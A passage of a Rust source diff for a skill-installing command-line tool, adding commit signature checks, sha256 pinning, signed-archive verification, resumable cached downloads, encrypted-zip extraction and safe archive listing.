+        // `clone --branch` only takes branches and tags, so a commit is fetched on
+        // its own into an empty repository and checked out detached.
+        fetch_git_commit(source, commit, temp_dir.path(), options, git)?
+    } else {
+        let mut command = git();
+        command.arg("clone").arg("--depth").arg("1");
+        if let Some(reference) = reference {
+            command.arg("--branch").arg(reference);
+        }
+        status_with_timeout(
+            command.arg(source).arg(temp_dir.path()),
+            options.git_timeout,
+        )
+        .with_context(|| format!("failed to run git clone for {source}"))?
+    };
+    let Some(status) = status else {
+        let timeout = options
+            .git_timeout
+            .map(describe_timeout)
+            .unwrap_or_default();
+        return Err(anyhow!(
+            "git clone for {source} timed out after {timeout} and was terminated"
+        ));
+    };
 
     if !status.success() {
         if let Some(suggestion) = suggest_github_repo(source) {
@@ -450,9 +7139,76 @@ fn clone_git_source(source: &str) -> Result<(PathBuf, TempDir)> {
         return Err(anyhow!("git clone failed for {source}"));
     }
 
+    if options.require_signed_commits || options.require_signatures {
+        verify_head_signature(temp_dir.path(), source, options)?;
+    }
+
     Ok((temp_dir.path().to_path_buf(), temp_dir))
 }
 
+/// Runs the `init`/`fetch`/`checkout` steps for a single commit, stopping at the
+/// first one that fails or times out.
+fn fetch_git_commit(
+    source: &str,
+    commit: &str,
+    dir: &Path,
+    options: &SourceOptions,
+    git: impl Fn() -> Command,
+) -> Result<Option<std::process::ExitStatus>> {
+    let mut init = git();
+    init.arg("init").arg("-q").arg(dir);
+    let mut fetch = git();
+    fetch
+        .arg("-C")
+        .arg(dir)
+        .args(["fetch", "-q", "--depth", "1", source, commit]);
+    let mut checkout = git();
+    checkout
+        .arg("-C")
+        .arg(dir)
+        .args(["checkout", "-q", "--detach", "FETCH_HEAD"]);
+    let mut last = None;
+    for mut command in [init, fetch, checkout] {
+        let status = status_with_timeout(&mut command, options.git_timeout)
+            .with_context(|| format!("failed to run git fetch for {source}"))?;
+        match status {
+            Some(status) if status.success() => last = Some(status),
+            other => return Ok(other),
+        }
+    }
+    Ok(last)
+}
+
+/// A full 40-character commit id, which git can fetch but not `clone --branch`.
+fn is_commit_sha(reference: &str) -> bool {
+    reference.len() == 40 && reference.chars().all(|c| c.is_ascii_hexdigit())
+}
+
+fn verify_head_signature(repo: &Path, source: &str, options: &SourceOptions) -> Result<()> {
+    let mut command = Command::new("git");
+    command.arg("-C").arg(repo);
+    if let Some(allowed_signers) = &options.allowed_signers {
+        command.arg("-c").arg(format!(
+            "gpg.ssh.allowedSignersFile={}",
+            allowed_signers.display()
+        ));
+    }
+    let output = command
+        .arg("verify-commit")
+        .arg("HEAD")
+        .output()
+        .with_context(|| format!("failed to run git verify-commit for {source}"))?;
+
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        return Err(anyhow!(
+            "HEAD commit of {source} is not signed by a trusted key: {}",
+            stderr.trim()
+        ));
+    }
+    Ok(())
+}
+
 fn suggest_github_repo(source: &str) -> Option<String> {
     let trimmed = source.trim_end_matches('/');
     let path = trimmed
@@ -482,16 +7238,11 @@ fn suggest_github_repo(source: &str) -> Option<String> {
 
 fn github_repo_exists(owner: &str, repo: &str) -> bool {
     let url = format!("https://api.github.com/repos/{owner}/{repo}");
-    let response = ureq::get(&url)
-        .set("Accept", "application/vnd.github+json")
-        .set("User-Agent", "skill")
-        .call();
-
-    match response {
-        Ok(resp) => resp.status() == 200,
-        Err(ureq::Error::Status(404, _)) => false,
-        Err(_) => false,
-    }
+    let headers = [
+        ("Accept", "application/vnd.github+json"),
+        ("User-Agent", "skill"),
+    ];
+    http::get(&url, &headers, None).is_ok_and(|fetched| fetched.response.status() == 200)
 }
 
 fn looks_like_git_source(source: &str) -> bool {
@@ -512,9 +7263,20 @@ enum ArchiveType {
     TarGz,
 }
 
+impl ArchiveType {
+    fn extension(self) -> &'static str {
+        match self {
+            ArchiveType::Zip => "zip",
+            ArchiveType::Tar => "tar",
+            ArchiveType::TarGz => "tar.gz",
+        }
+    }
+}
+
 const MAX_DOWNLOAD_BYTES: u64 = 200 * 1024 * 1024;
 const MAX_EXTRACTED_BYTES: u64 = 512 * 1024 * 1024;
 const MAX_ARCHIVE_ENTRIES: usize = 5_000;
+const MAX_SIGNATURE_BYTES: u64 = 64 * 1024;
 
 fn detect_archive_type(source: &str) -> Option<ArchiveType> {
     let lower = source.to_ascii_lowercase();
@@ -529,106 +7291,466 @@ fn detect_archive_type(source: &str) -> Option<ArchiveType> {
     }
 }
 
-fn download_and_extract(url: &str, archive_type: ArchiveType) -> Result<(PathBuf, TempDir)> {
-    let temp_dir = tempfile::tempdir().context("failed to create temp dir")?;
-    let archive_name = match archive_type {
-        ArchiveType::Zip => "skill.zip",
-        ArchiveType::Tar => "skill.tar",
-        ArchiveType::TarGz => "skill.tar.gz",
+fn download_and_extract(
+    url: &str,
+    archive_type: ArchiveType,
+    options: &SourceOptions,
+    hosted: Option<&HostedRepo>,
+) -> Result<PreparedSource> {
+    let temp_dir = downloads::temp_dir()?;
+    let download = download_archive(url, archive_type, options, hosted, temp_dir.path())?;
+    check_expected_digest(url, &download.digest, options)?;
+    let dir = extract_archive(&download.path, archive_type, options, temp_dir.path())?;
+    if let Some(cache) = options.cache.as_ref() {
+        cache.enforce_limits()?;
+    }
+    Ok(PreparedSource {
+        dir,
+        temp_dir: Some(temp_dir),
+        archive_digest: Some(download.digest),
+        resolved_url: Some(download.final_url),
+    })
+}
+
+/// Normalizes a `--sha256` value, `<hex>` or `sha256:<hex>`, to lowercase hex.
+fn parse_sha256(value: &str) -> Result<String> {
+    let hex = value.strip_prefix("sha256:").unwrap_or(value);
+    if hex.len() != 64 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
+        return Err(anyhow!(
+            "--sha256 takes 64 hex characters, optionally prefixed with sha256:, not '{value}'"
+        ));
+    }
+    Ok(hex.to_ascii_lowercase())
+}
+
+/// Errors when `--sha256` was given and `digest` (`sha256:<hex>`) of the archive
+/// fetched for `source` is something else. Runs before anything is extracted.
+fn check_expected_digest(source: &str, digest: &str, options: &SourceOptions) -> Result<()> {
+    let Some(expected) = options.expected_sha256.as_deref() else {
+        return Ok(());
     };
-    let archive_path = temp_dir.path().join(archive_name);
-    let response = ureq::get(url)
-        .call()
-        .map_err(|err| anyhow!("failed to download {url}: {err}"))?;
-    validate_content_type(archive_type, response.header("Content-Type"))?;
-    if let Some(length) = response.header("Content-Length") {
-        if let Ok(size) = length.parse::<u64>() {
-            if size > MAX_DOWNLOAD_BYTES {
-                return Err(anyhow!(
-                    "download too large ({size} bytes). Limit is {MAX_DOWNLOAD_BYTES} bytes."
-                ));
-            }
-        }
+    if digest.strip_prefix("sha256:") == Some(expected) {
+        return Ok(());
+    }
+    Err(anyhow!(
+        "checksum mismatch for {source}: expected sha256:{expected}, got {digest}; nothing was extracted"
+    ))
+}
+
+/// `--sha256` pins archive bytes, so a source fetched with git has nothing to check.
+fn refuse_expected_digest(source: &str, options: &SourceOptions) -> Result<()> {
+    if options.expected_sha256.is_some() {
+        return Err(anyhow!(
+            "--sha256 needs an archive source, but {source} is fetched with git"
+        ));
+    }
+    Ok(())
+}
+
+/// Extracts `archive_path` under `temp_dir` after checking every entry path, and
+/// returns the directory holding its content.
+fn extract_archive(
+    archive_path: &Path,
+    archive_type: ArchiveType,
+    options: &SourceOptions,
+    temp_dir: &Path,
+) -> Result<PathBuf> {
+    let path_problems = entry_path_problems(&list_archive_entries(archive_path, archive_type)?);
+    if !path_problems.is_empty() {
+        return Err(anyhow!(
+            "archive cannot be extracted safely:\n  {}",
+            path_problems.join("\n  ")
+        ));
     }
-    let mut reader = response.into_reader();
-    let mut file = File::create(&archive_path)
-        .with_context(|| format!("failed to create {}", archive_path.display()))?;
-    copy_with_limit(&mut reader, &mut file, MAX_DOWNLOAD_BYTES).with_context(|| {
-        format!(
-            "failed to write downloaded archive {}",
-            archive_path.display()
-        )
-    })?;
 
-    let extract_dir = temp_dir.path().join("extracted");
+    let extract_dir = temp_dir.join("extracted");
     fs::create_dir_all(&extract_dir)
         .with_context(|| format!("failed to create {}", extract_dir.display()))?;
 
     match archive_type {
-        ArchiveType::Zip => extract_zip(&archive_path, &extract_dir)?,
-        ArchiveType::Tar => extract_tar(&archive_path, &extract_dir)?,
-        ArchiveType::TarGz => extract_tar_gz(&archive_path, &extract_dir)?,
+        ArchiveType::Zip => extract_zip(
+            archive_path,
+            &extract_dir,
+            options.archive_password.as_deref(),
+        )?,
+        ArchiveType::Tar => extract_tar(archive_path, &extract_dir)?,
+        ArchiveType::TarGz => extract_tar_gz(archive_path, &extract_dir)?,
+    }
+
+    if let Some(export) = pack::check_export(&extract_dir)? {
+        eprintln!(
+            "Verified {} exported from {} ({})",
+            export.name, export.assistant, export.digest
+        );
+    }
+    archive_root(&extract_dir)
+}
+
+struct DownloadedArchive {
+    path: PathBuf,
+    /// `sha256:<hex>` of the archive bytes.
+    digest: String,
+    /// Where the download ended up after redirects.
+    final_url: String,
+}
+
+/// Downloads `url` into the cache (or `temp_dir` without one), revalidating a cached
+/// copy by ETag, and checks its adjacent signature.
+fn download_archive(
+    url: &str,
+    archive_type: ArchiveType,
+    options: &SourceOptions,
+    hosted: Option<&HostedRepo>,
+    temp_dir: &Path,
+) -> Result<DownloadedArchive> {
+    let cache = options.cache.as_ref();
+    let extension = archive_type.extension();
+    let archive_path = match cache {
+        Some(cache) => {
+            cache.ensure()?;
+            cache.archive_path(url, extension)
+        }
+        None => temp_dir.join(format!("skill.{extension}")),
+    };
+
+    let meta = cache.and_then(|cache| cache.load_meta(url));
+    let cached_etag = meta
+        .as_ref()
+        .filter(|_| archive_path.exists())
+        .and_then(|meta| meta.etag.clone());
+    // An unfinished download in the cache resumes where it stopped, as long as the
+    // server still has the version it came from (`If-Range`).
+    let partial_path = archive_path.with_extension("part");
+    let mut resume = meta
+        .as_ref()
+        .and_then(|meta| meta.partial_etag.clone())
+        .and_then(|etag| {
+            let offset = fs::metadata(&partial_path).ok()?.len();
+            (offset > 0).then(|| (format!("bytes={offset}-"), etag, offset))
+        });
+    let auth = hosted.and_then(HostedRepo::archive_auth);
+    let auth = auth
+        .as_ref()
+        .map(|(header, value)| (*header, value.as_str()));
+    progress::emit("download_started", serde_json::json!({ "url": url }));
+    let http::Fetched {
+        response,
+        final_url,
+    } = loop {
+        let mut headers: Vec<(&str, &str)> = cached_etag
+            .iter()
+            .map(|etag| ("If-None-Match", etag.as_str()))
+            .collect();
+        if let Some((range, etag, _)) = &resume {
+            headers.extend([("Range", range.as_str()), ("If-Range", etag.as_str())]);
+        }
+        match http::get(url, &headers, auth) {
+            // The part on disk is no longer a prefix of what the server has.
+            Err(err) if resume.is_some() && http::is_status(&err, 416) => resume = None,
+            fetched => break fetched.with_context(|| format!("failed to download {url}"))?,
+        }
+    };
+
+    let cached = response.status() == 304 && cached_etag.is_some();
+    if cached {
+        if let Some(cache) = cache {
+            cache.touch(&archive_path)?;
+        }
+    } else {
+        let etag = response.header("ETag").map(str::to_string);
+        let offset = resume
+            .map(|(_, _, offset)| offset)
+            .filter(|_| response.status() == 206);
+        // Only a strong ETag can vouch that a later range continues the same bytes.
+        let resumable = etag.as_ref().filter(|etag| !etag.starts_with("W/"));
+        if let Some(cache) = cache {
+            // Recorded before writing so a download killed midway can still resume.
+            cache.save_meta(&CacheMeta {
+                url: url.to_string(),
+                etag: meta.and_then(|meta| meta.etag),
+                partial_etag: resumable.cloned(),
+            })?;
+        }
+        let download = PartialDownload {
+            path: partial_path,
+            offset,
+            keep: cache.is_some() && resumable.is_some(),
+        };
+        write_download(
+            response,
+            url,
+            archive_type,
+            &archive_path,
+            download,
+            options,
+        )?;
+        if let Some(cache) = cache {
+            cache.save_meta(&CacheMeta {
+                url: url.to_string(),
+                etag,
+                partial_etag: None,
+            })?;
+        }
+    }
+
+    // Host-generated archives have no `.sig` next to them.
+    if hosted.is_none() {
+        verify_adjacent_signature(url, &archive_path, temp_dir, options)?;
+    }
+    let digest = format!("sha256:{}", manifest::hash_file(&archive_path)?);
+    progress::emit(
+        "download_finished",
+        serde_json::json!({
+            "url": url,
+            "final_url": final_url,
+            "bytes": fs::metadata(&archive_path).map(|metadata| metadata.len()).ok(),
+            "cached": cached,
+            "digest": digest,
+        }),
+    );
+    Ok(DownloadedArchive {
+        path: archive_path,
+        digest,
+        final_url,
+    })
+}
+
+/// Verifies `<url>.sig` against the downloaded archive when the server has one, and
+/// insists on one when signatures are required. Failing to fetch the signature for
+/// any other reason (a 403, a server error, the network) is only a warning unless
+/// signatures are required.
+fn verify_adjacent_signature(
+    url: &str,
+    archive_path: &Path,
+    temp_dir: &Path,
+    options: &SourceOptions,
+) -> Result<()> {
+    let signature_url = format!("{url}.sig");
+    let response = match http::get(&signature_url, &[], None) {
+        Ok(fetched) => fetched.response,
+        Err(err) if http::is_status(&err, 404) && options.require_signatures => {
+            return Err(missing_signature(url, &signature_url));
+        }
+        Err(err) if http::is_status(&err, 404) => return Ok(()),
+        Err(err) if options.require_signatures => {
+            return Err(err.context(format!("failed to download {signature_url}")));
+        }
+        Err(err) => {
+            eprintln!(
+                "Warning: could not check for a signature at {signature_url}: {err:#}; signature not verified."
+            );
+            return Ok(());
+        }
+    };
+    let Some(allowed_signers) = &options.allowed_signers else {
+        return unverifiable_signature(&signature_url, options);
+    };
+
+    let signature_path = temp_dir.join("skill.sig");
+    let mut file = File::create(&signature_path)
+        .with_context(|| format!("failed to create {}", signature_path.display()))?;
+    copy_with_limit(&mut response.into_reader(), &mut file, MAX_SIGNATURE_BYTES)
+        .with_context(|| format!("failed to download {signature_url}"))?;
+    let signer = pack::verify_pack(archive_path, &signature_path, allowed_signers)?;
+    eprintln!("Verified signature of {url} by {signer}");
+    Ok(())
+}
+
+/// A signature at `signature` that can't be checked because no key is trusted: a
+/// warning, or an error when signatures are required.
+fn unverifiable_signature(signature: &str, options: &SourceOptions) -> Result<()> {
+    if options.require_signatures {
+        return Err(anyhow!(
+            "signatures are required but no keys are trusted to verify {signature}; add one with `skill keys trust <principal> <key.pub>`"
+        ));
+    }
+    eprintln!(
+        "Warning: {signature} exists but no allowed signers file is configured; signature not verified."
+    );
+    Ok(())
+}
+
+fn missing_signature(source: &str, signature: &str) -> anyhow::Error {
+    anyhow!("signatures are required but {source} has no signature at {signature}")
+}
+
+/// The `.part` file a download is written to before it is moved into place.
+struct PartialDownload {
+    path: PathBuf,
+    /// Bytes already on disk that the response continues from (a `206` answer).
+    offset: Option<u64>,
+    /// Keep the file when the transfer fails so the next attempt can resume it.
+    keep: bool,
+}
+
+fn write_download(
+    response: ureq::Response,
+    url: &str,
+    archive_type: ArchiveType,
+    archive_path: &Path,
+    partial: PartialDownload,
+    options: &SourceOptions,
+) -> Result<()> {
+    validate_content_type(archive_type, response.header("Content-Type"))?;
+    let offset = partial.offset.unwrap_or(0);
+    if partial.offset.is_some() && http::content_range_start(&response) != Some(offset) {
+        let _ = fs::remove_file(&partial.path);
+        return Err(anyhow!(
+            "{url} resumed at a different offset than the {offset} bytes already downloaded; retry to start over"
+        ));
+    }
+    let length = response
+        .header("Content-Length")
+        .and_then(|length| length.parse::<u64>().ok())
+        .map(|length| length + offset);
+    if let Some(size) = length
+        && size > MAX_DOWNLOAD_BYTES
+    {
+        return Err(anyhow!(
+            "download too large ({size} bytes). Limit is {MAX_DOWNLOAD_BYTES} bytes."
+        ));
     }
 
-    let skill_root = resolve_skill_root(&extract_dir)?;
-    Ok((skill_root, temp_dir))
+    let reader = response.into_reader();
+    let reader: Box<dyn Read> = match options.rate_limit {
+        Some(rate) => Box::new(http::RateLimited::new(reader, rate)),
+        None => Box::new(reader),
+    };
+    let mut reader = DownloadProgress::new(reader, url, length).resumed_at(offset);
+    let mut file = if partial.offset.is_some() {
+        if !progress::json() {
+            eprintln!("Resuming {url} after {}", ByteSize(offset));
+        }
+        progress::emit(
+            "download_resumed",
+            serde_json::json!({ "url": url, "bytes": offset }),
+        );
+        File::options().append(true).open(&partial.path)
+    } else {
+        File::create(&partial.path)
+    }
+    .with_context(|| format!("failed to create {}", partial.path.display()))?;
+    if let Err(err) = copy_with_limit(&mut reader, &mut file, MAX_DOWNLOAD_BYTES - offset) {
+        let kept = partial.keep && fs::metadata(&partial.path).is_ok_and(|meta| meta.len() > 0);
+        if !kept {
+            let _ = fs::remove_file(&partial.path);
+        }
+        return Err(err).with_context(|| {
+            let resume = if kept {
+                "; the part already downloaded was kept, run the command again to resume"
+            } else {
+                ""
+            };
+            format!(
+                "failed to write downloaded archive {}{resume}",
+                archive_path.display()
+            )
+        });
+    }
+    fs::rename(&partial.path, archive_path)
+        .with_context(|| format!("failed to write {}", archive_path.display()))?;
+    Ok(())
 }
 
 fn resolve_skill_root(extract_dir: &Path) -> Result<PathBuf> {
     if extract_dir.join("SKILL.md").exists() {
         return Ok(extract_dir.to_path_buf());
     }
+    let mut found = find_skill_dirs(extract_dir)?;
+    match found.len() {
+        0 => Err(anyhow!("source does not contain a SKILL.md file")),
+        1 => Ok(found.remove(0)),
+        count => Err(anyhow!(
+            "source contains {count} skills; pick one with --skill <name> or install them all with --all"
+        )),
+    }
+}
 
-    let mut found: Option<PathBuf> = None;
-    for entry in WalkDir::new(extract_dir).follow_links(false) {
+/// Every directory under `root` holding a `SKILL.md`, in path order. Directories
+/// inside a skill are that skill's own files, so the walk does not descend into them.
+fn find_skill_dirs(root: &Path) -> Result<Vec<PathBuf>> {
+    let mut found = Vec::new();
+    let mut walker = WalkDir::new(root)
+        .follow_links(false)
+        .sort_by_file_name()
+        .into_iter();
+    while let Some(entry) = walker.next() {
         let entry = entry?;
-        if !entry.file_type().is_file() {
-            continue;
-        }
-        if entry.file_name() != "SKILL.md" {
+        if !entry.file_type().is_dir() {
             continue;
         }
-        let rel_path = entry.path().strip_prefix(extract_dir)?;
+        let rel_path = entry.path().strip_prefix(root)?;
         if should_skip(rel_path) {
+            walker.skip_current_dir();
             continue;
         }
-        let Some(parent) = entry.path().parent() else {
-            continue;
-        };
-        let parent = parent.to_path_buf();
-        if let Some(existing) = &found {
-            if existing != &parent {
-                return Err(anyhow!(
-                    "archive contains multiple SKILL.md files; use an archive with a single skill"
-                ));
-            }
-        } else {
-            found = Some(parent);
+        if entry.path().join("SKILL.md").is_file() {
+            found.push(entry.path().to_path_buf());
+            walker.skip_current_dir();
         }
     }
+    Ok(found)
+}
+
+/// The skill to install from a prepared source: the `--skill` path when given,
+/// otherwise the source itself or the one skill inside it.
+fn select_skill_dir(source_dir: &Path, skill: Option<&str>) -> Result<PathBuf> {
+    match skill {
+        Some(skill) => resolve_skill_path(source_dir, skill),
+        None => resolve_skill_root(source_dir),
+    }
+}
 
-    found.ok_or_else(|| anyhow!("archive did not contain a SKILL.md file"))
+/// The directory an extracted archive's content sits in: the extraction dir, or the
+/// single directory wrapping everything, as in host-generated `<repo>-<ref>/` archives.
+fn archive_root(extract_dir: &Path) -> Result<PathBuf> {
+    if extract_dir.join("SKILL.md").exists() {
+        return Ok(extract_dir.to_path_buf());
+    }
+    let entries = fs::read_dir(extract_dir)
+        .with_context(|| format!("failed to read {}", extract_dir.display()))?
+        .collect::<std::io::Result<Vec<_>>>()?;
+    match entries.as_slice() {
+        [entry] if entry.file_type()?.is_dir() => Ok(entry.path()),
+        _ => Ok(extract_dir.to_path_buf()),
+    }
 }
 
-fn extract_zip(archive_path: &Path, dest: &Path) -> Result<()> {
+/// Extracts a zip (zip64 included). Encrypted entries are decrypted with `password`,
+/// or one prompted for on a terminal.
+fn extract_zip(archive_path: &Path, dest: &Path, password: Option<&str>) -> Result<()> {
     let file = File::open(archive_path)
         .with_context(|| format!("failed to open {}", archive_path.display()))?;
-    let mut archive = ZipArchive::new(file)
-        .with_context(|| format!("failed to read {}", archive_path.display()))?;
+    let mut archive =
+        ZipArchive::new(file).map_err(|err| zip_error(err, "failed to read the zip archive"))?;
     let entries = archive.len();
     if entries > MAX_ARCHIVE_ENTRIES {
         return Err(anyhow!("archive has too many entries ({entries})"));
     }
+    let encrypted: Vec<bool> = (0..entries)
+        .map(|i| archive.by_index_raw(i).map(|entry| entry.encrypted()))
+        .collect::<Result<_, _>>()
+        .map_err(|err| zip_error(err, "failed to read the zip archive"))?;
+    let password = if encrypted.contains(&true) {
+        Some(zip_password(password)?)
+    } else {
+        None
+    };
 
     let mut extracted = 0u64;
-    for i in 0..archive.len() {
-        let mut entry = archive
-            .by_index(i)
-            .with_context(|| format!("failed to read entry {i}"))?;
+    let mut progress = ExtractProgress::new(Some(entries));
+    for (i, &is_encrypted) in encrypted.iter().enumerate() {
+        let entry = match &password {
+            Some(password) if is_encrypted => archive.by_index_decrypt(i, password.as_bytes()),
+            _ => archive.by_index(i),
+        };
+        let mut entry =
+            entry.map_err(|err| zip_error(err, &format!("failed to read entry {i}")))?;
         let name = entry.name().to_string();
         let entry_path = Path::new(&name);
         let safe_path = sanitize_archive_path(entry_path)
             .with_context(|| format!("unsafe archive path: {name}"))?;
+        progress.entry(&name);
 
         if is_zip_symlink(&entry) {
             return Err(anyhow!("archive contains symlink: {name}"));
@@ -642,7 +7764,7 @@ fn extract_zip(archive_path: &Path, dest: &Path) -> Result<()> {
         let size = entry.size();
         extracted = extracted.saturating_add(size);
         if extracted > MAX_EXTRACTED_BYTES {
-            return Err(anyhow!("extracted data exceeds limit"));
+            return Err(extraction_limit_error(&name, size));
         }
 
         let out_path = dest.join(&safe_path);
@@ -651,11 +7773,52 @@ fn extract_zip(archive_path: &Path, dest: &Path) -> Result<()> {
         }
         let mut output = File::create(&out_path)
             .with_context(|| format!("failed to create {}", out_path.display()))?;
-        copy_with_limit(&mut entry, &mut output, MAX_EXTRACTED_BYTES)?;
+        copy_with_limit(&mut entry, &mut output, MAX_EXTRACTED_BYTES).map_err(|err| {
+            // A wrong ZipCrypto password can pass the header check and only show up as
+            // a corrupt stream.
+            match err.downcast_ref::<io::Error>() {
+                Some(io_err) if is_encrypted && io_err.kind() == io::ErrorKind::InvalidData => {
+                    anyhow!("failed to decrypt {name}; the archive password is probably wrong")
+                }
+                _ => err.context(format!("failed to extract {name}")),
+            }
+        })?;
     }
+    progress.finish();
     Ok(())
 }
 
+fn zip_password(given: Option<&str>) -> Result<String> {
+    if let Some(password) = given {
+        return Ok(password.to_string());
+    }
+    if !io::stdin().is_terminal() {
+        return Err(anyhow!(
+            "archive is password-protected; pass --archive-password"
+        ));
+    }
+    rpassword::prompt_password("Archive is password-protected. Password: ")
+        .context("failed to read the archive password")
+}
+
+fn zip_error(err: ZipError, context: &str) -> anyhow::Error {
+    match err {
+        ZipError::InvalidPassword => anyhow!("wrong password for the zip archive"),
+        ZipError::UnsupportedArchive(feature) => {
+            anyhow!("{context}: unsupported zip feature ({feature})")
+        }
+        err => anyhow::Error::new(err).context(context.to_string()),
+    }
+}
+
+fn extraction_limit_error(name: &str, size: u64) -> anyhow::Error {
+    anyhow!(
+        "extracting {name} ({}) would exceed the {} limit on extracted data",
+        ByteSize(size),
+        ByteSize(MAX_EXTRACTED_BYTES)
+    )
+}
+
 fn extract_tar(archive_path: &Path, dest: &Path) -> Result<()> {
     let file = File::open(archive_path)
         .with_context(|| format!("failed to open {}", archive_path.display()))?;
@@ -675,6 +7838,7 @@ fn extract_tar_stream<R: Read>(reader: R, dest: &Path) -> Result<()> {
     let mut archive = Archive::new(reader);
     let mut extracted = 0u64;
     let mut entries = 0usize;
+    let mut progress = ExtractProgress::new(None);
 
     for entry in archive.entries()? {
         let mut entry = entry?;
@@ -683,28 +7847,333 @@ fn extract_tar_stream<R: Read>(reader: R, dest: &Path) -> Result<()> {
             return Err(anyhow!("archive has too many entries ({entries})"));
         }
 
+        let entry_type = entry.header().entry_type();
+        if entry_type.is_pax_global_extensions() {
+            // Metadata for the archive as a whole (e.g. the commit of a host's tarball).
+            continue;
+        }
         let path = entry.path()?.into_owned();
         let safe_path = sanitize_archive_path(&path)
             .with_context(|| format!("unsafe archive path: {}", path.display()))?;
+        progress.entry(&path.to_string_lossy());
 
-        let entry_type = entry.header().entry_type();
         if entry_type.is_symlink() || entry_type.is_hard_link() {
             return Err(anyhow!("archive contains link: {}", path.display()));
         }
+        if !entry_type.is_file() && !entry_type.is_dir() {
+            return Err(anyhow!(
+                "archive contains {}: {}",
+                special_entry_kind(entry_type),
+                path.display()
+            ));
+        }
 
         let size = entry.header().size().unwrap_or(0);
         extracted = extracted.saturating_add(size);
         if extracted > MAX_EXTRACTED_BYTES {
-            return Err(anyhow!("extracted data exceeds limit"));
+            return Err(extraction_limit_error(&path.to_string_lossy(), size));
+        }
+
+        let out_path = dest.join(&safe_path);
+        if let Some(parent) = out_path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        entry.unpack(&out_path)?;
+    }
+    progress.finish();
+    Ok(())
+}
+
+/// `add --list`: downloads (or revalidates the cached copy of) an archive source and
+/// prints its entries from the headers, so nothing from it lands on disk unextracted.
+fn list_archive_source(source: &str, options: &SourceOptions) -> Result<()> {
+    let temp_dir = downloads::temp_dir()?;
+    let local_archive = detect_archive_type(source).filter(|_| Path::new(source).is_file());
+    let (archive_path, archive_type, digest) = if let Some(archive_type) = local_archive {
+        let archive_path = PathBuf::from(source);
+        let digest = format!("sha256:{}", manifest::hash_file(&archive_path)?);
+        (archive_path, archive_type, digest)
+    } else {
+        let (url, archive_type, hosted) = match hosted_repo(source, options)? {
+            Some(repo) if repo.reference.is_some() => {
+                (repo.archive_url(), ArchiveType::TarGz, Some(repo))
+            }
+            _ => match detect_archive_type(source).filter(|_| looks_like_http_url(source)) {
+                Some(archive_type) => (source.to_string(), archive_type, None),
+                None => {
+                    return Err(anyhow!(
+                        "--list needs an archive source: a .zip, .tar or .tar.gz file or URL, or a host shorthand with @<ref> or --ref"
+                    ));
+                }
+            },
+        };
+        let download = download_archive(
+            &url,
+            archive_type,
+            options,
+            hosted.as_ref(),
+            temp_dir.path(),
+        )?;
+        (download.path, archive_type, download.digest)
+    };
+    check_expected_digest(source, &digest, options)?;
+    let entries = list_archive_entries(&archive_path, archive_type)?;
+
+    if output::porcelain() {
+        for entry in &entries {
+            output::record(&[
+                entry.kind,
+                &entry.size.to_string(),
+                &entry.path,
+                entry.problem.unwrap_or_default(),
+            ]);
+        }
+        return Ok(());
+    }
+    if output::json() {
+        return output::print_json(&serde_json::json!({
+            "source": source,
+            "digest": digest,
+            "entries": entries,
+            "problems": entry_path_problems(&entries),
+        }));
+    }
+    for entry in &entries {
+        let size = match entry.kind {
+            "file" => ByteSize(entry.size).to_string(),
+            _ => String::new(),
+        };
+        match entry.problem {
+            Some(problem) => println!("{size:>10}  {:<7}  {}  ({problem})", entry.kind, entry.path),
+            None => println!("{size:>10}  {:<7}  {}", entry.kind, entry.path),
+        }
+    }
+    let total: u64 = entries.iter().map(|entry| entry.size).sum();
+    println!(
+        "{} entries, {} uncompressed ({digest})",
+        entries.len(),
+        ByteSize(total)
+    );
+    let encrypted = entries.iter().filter(|entry| entry.encrypted).count();
+    if encrypted > 0 {
+        eprintln!("Note: {encrypted} entries are encrypted; installing needs the archive password");
+    }
+    let rejected = entries
+        .iter()
+        .filter(|entry| entry.problem.is_some())
+        .count();
+    if rejected > 0 {
+        eprintln!("Warning: {rejected} entries would be rejected on install");
+    }
+    for problem in entry_path_problems(&entries) {
+        eprintln!("Warning: {problem}; installing would fail");
+    }
+    if entries.len() > MAX_ARCHIVE_ENTRIES {
+        eprintln!("Warning: more than {MAX_ARCHIVE_ENTRIES} entries; installing would fail");
+    }
+    if total > MAX_EXTRACTED_BYTES {
+        eprintln!(
+            "Warning: over the {} extraction limit; installing would fail",
+            ByteSize(MAX_EXTRACTED_BYTES)
+        );
+    }
+    Ok(())
+}
+
+/// One-line extraction progress on stderr, shown only on a terminal, or
+/// `extract_*` events under `--progress json`.
+struct ExtractProgress {
+    total: Option<usize>,
+    done: usize,
+    enabled: bool,
+}
+
+impl ExtractProgress {
+    fn new(total: Option<usize>) -> Self {
+        progress::emit("extract_started", serde_json::json!({ "entries": total }));
+        Self {
+            total,
+            done: 0,
+            enabled: progress::interactive(),
+        }
+    }
+
+    fn entry(&mut self, name: &str) {
+        self.done += 1;
+        progress::emit(
+            "extract_progress",
+            serde_json::json!({ "done": self.done, "total": self.total, "path": name }),
+        );
+        if !self.enabled {
+            return;
+        }
+        let count = match self.total {
+            Some(total) => format!("{}/{total}", self.done),
+            None => self.done.to_string(),
+        };
+        eprint!("\r\x1b[2KExtracting {count}: {name}");
+        let _ = io::stderr().flush();
+    }
+
+    fn finish(self) {
+        progress::emit(
+            "extract_finished",
+            serde_json::json!({ "entries": self.done }),
+        );
+        if self.enabled && self.done > 0 {
+            eprint!("\r\x1b[2K");
+            let _ = io::stderr().flush();
+        }
+    }
+}
+
+/// An archive member as `add --list` shows it, read from the headers only.
+#[derive(Debug, PartialEq, Eq, serde::Serialize)]
+struct ArchiveEntry {
+    path: String,
+    kind: &'static str,
+    size: u64,
+    encrypted: bool,
+    /// Why installing would reject this entry.
+    problem: Option<&'static str>,
+}
+
+fn list_archive_entries(
+    archive_path: &Path,
+    archive_type: ArchiveType,
+) -> Result<Vec<ArchiveEntry>> {
+    let file = File::open(archive_path)
+        .with_context(|| format!("failed to open {}", archive_path.display()))?;
+    let mut listed = Vec::new();
+    match archive_type {
+        ArchiveType::Zip => {
+            let mut archive = ZipArchive::new(file)
+                .with_context(|| format!("failed to read {}", archive_path.display()))?;
+            for i in 0..archive.len() {
+                let entry = archive
+                    .by_index_raw(i)
+                    .with_context(|| format!("failed to read entry {i}"))?;
+                let (kind, link_problem) = if is_zip_symlink(&entry) {
+                    ("symlink", Some("symlinks are rejected"))
+                } else if entry.is_dir() {
+                    ("dir", None)
+                } else {
+                    ("file", None)
+                };
+                listed.push(ArchiveEntry {
